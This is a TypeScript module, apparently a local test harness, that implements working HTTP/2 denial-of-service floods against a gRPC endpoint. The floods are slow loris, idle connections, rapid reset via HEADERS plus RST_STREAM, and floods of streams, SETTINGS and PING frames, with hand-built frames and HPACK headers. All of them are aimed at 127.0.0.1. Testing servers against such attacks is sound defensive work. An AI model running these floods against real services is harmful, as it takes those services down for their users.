/**
 * What attackers do with a connection, as bytes on a socket: nothing, a byte now and then, or more
 * frames than anybody honest sends. Each returns when its connection is gone or its time is over.
 *
 * Source: RFC 9113 (HTTP/2), 3.4 preface, 6 frames; RFC 7541, 6.2.2 for header literals.
 */
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { connect as connectTls, type SecureContext } from "node:tls";

/** Whom to attack, and as whom. */
export interface Target {
  readonly port: number;
  /** The attacker's own address: any of 127.0.0.0/8 (RFC 1122, 3.2.1.3). */
  readonly from: string;
  /** With a certificate or without. */
  readonly context: SecureContext;
}

/** A connection's life. Resolves with the frames that left. */
export type Flood = (target: Target, place: number, signal: AbortSignal) => Promise<number>;

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const EMPTY_SETTINGS = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
/** Beginning of a TLS record that says it holds 512 bytes of handshake (RFC 8446, 5.1). */
const HALF_HELLO = Buffer.concat([Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252]), Buffer.alloc(503)]);
const PATH = "/heatpool.community.v1.CommunityService/GetPoolStatus";
const DRIBBLE_MS = 200;
/** Frames that leave in one write. */
const BURST = 100;
const TYPES = { headers: 1, rst: 3, settings: 4, ping: 6 };
const END_HEADERS = 4;
const CANCEL = 8;

/** A third each: handshakes, prefaces and frames that come a byte at a time. */
const slowLoris: Flood = async (target, place, signal) => {
  if (place % 3 === 0) return dribble(await openPlain(target, signal), HALF_HELLO, signal);
  const secured = await openSecured(target, signal);
  if (place % 3 === 1) return dribble(secured, PREFACE, signal);
  secured?.write(Buffer.concat([PREFACE, EMPTY_SETTINGS]));
  return dribble(secured, frame(TYPES.headers, END_HEADERS, 1, headersOf(PATH)), signal);
};

const idleFlood: Flood = async (target, _, signal) => {
  const socket = await openPlain(target, signal);
  if (socket !== undefined) await gone(socket, signal);
  return 0;
};

const rapidReset: Flood = (target, _, signal) => {
  const block = headersOf(PATH);
  return pour(target, signal, (number) => {
    const stream = 2 * number + 1;
    const why = Buffer.from([0, 0, 0, CANCEL]);
    return Buffer.concat([
      frame(TYPES.headers, END_HEADERS, stream, block),
      frame(TYPES.rst, 0, stream, why),
    ]);
  });
};

/** A third each: streams that stay open, settings, pings. */
const streamFlood: Flood = (target, place, signal) => {
  const block = headersOf(PATH);
  return pour(target, signal, (number) => {
    if (place % 3 === 0) return frame(TYPES.headers, END_HEADERS, 2 * number + 1, block);
    if (place % 3 === 1) return frame(TYPES.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]));
    return frame(TYPES.ping, 0, 0, Buffer.alloc(8));
  });
};

/** By name, with how many connections each network keeps at it. */
export const FLOODS = {
  "slow-loris": { flood: slowLoris, perNetwork: 80 },
  "idle-flood": { flood: idleFlood, perNetwork: 160 },
  "rapid-reset": { flood: rapidReset, perNetwork: 2 },
  "stream-flood": { flood: streamFlood, perNetwork: 3 },
} as const;

export type FloodName = keyof typeof FLOODS;

async function dribble(
  socket: Socket | undefined,
  bytes: Buffer,
  signal: AbortSignal,
): Promise<number> {
  if (socket === undefined) return 0;
  let at = 0;
  const timer = setInterval(() => {
    if (at < bytes.length) socket.write(bytes.subarray(at, at + 1));
    at += 1;
  }, DRIBBLE_MS);
  await gone(socket, signal);
  clearInterval(timer);
  return at;
}

/** Frames without end, as fast as they are taken. */
async function pour(
  target: Target,
  signal: AbortSignal,
  make: (number: number) => Buffer,
): Promise<number> {
  const socket = await openSecured(target, signal);
  if (socket === undefined) return 0;
  const left = gone(socket, signal);
  socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS]));
  let sent = 0;
  while (!socket.destroyed) {
    const burst = Array.from({ length: BURST }, () => make(sent++));
    const isTaken = socket.write(Buffer.concat(burst));
    // Also when it was: the other connections of this process want a turn.
    await Promise.race([left, isTaken ? turn() : once(socket, "drain")]).catch(() => undefined);
  }
  return sent;
}

function turn(): Promise<void> {
  return new Promise((resolve) => {
    setImmediate(resolve);
  });
}

/** Resolves when the connection is gone; it is cut when the time is over. */
function gone(socket: Socket, signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    const cut = () => socket.destroy();
    const end = (): void => {
      signal.removeEventListener("abort", cut);
      resolve();
    };
    socket.once("close", end);
    signal.addEventListener("abort", cut, { once: true });
    if (signal.aborted) cut();
    if (socket.destroyed) end();
  });
}

async function openPlain({ port, from }: Target, signal: AbortSignal): Promise<Socket | undefined> {
  const socket = connect({ port, host: "127.0.0.1", localAddress: from });
  return (await opened(socket, "connect", signal)) ? socket : undefined;
}

async function openSecured(
  { port, from, context }: Target,
  signal: AbortSignal,
): Promise<Socket | undefined> {
  // The types of Node 20 leave out what a TLS connection hands on to its socket.
  const options = { port, host: "127.0.0.1", localAddress: from } as { port: number };
  const socket = connectTls({
    ...options,
    secureContext: context,
    ALPNProtocols: ["h2"],
    servername: "localhost",
    rejectUnauthorized: false,
  });
  return (await opened(socket, "secureConnect", signal)) ? socket : undefined;
}

function opened(socket: Socket, event: string, signal: AbortSignal): Promise<boolean> {
  socket.on("error", () => undefined);
  socket.resume();
  return new Promise((resolve) => {
    socket.once(event, () => resolve(true));
    void gone(socket, signal).then(() => resolve(false));
  });
}

function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream % 0x80000000, 5);
  return Buffer.concat([head, payload]);
}

function headersOf(path: string): Buffer {
  const text = (one: string) => Buffer.concat([Buffer.from([one.length]), Buffer.from(one)]);
  const literal = (name: string, value: string) =>
    Buffer.concat([Buffer.from([0]), text(name), text(value)]);
  return Buffer.concat([
    literal(":method", "POST"),
    literal(":scheme", "https"),
    literal(":path", path),
    literal(":authority", "a"),
    literal("content-type", "application/grpc"),
    literal("te", "trailers"),
  ]);
}
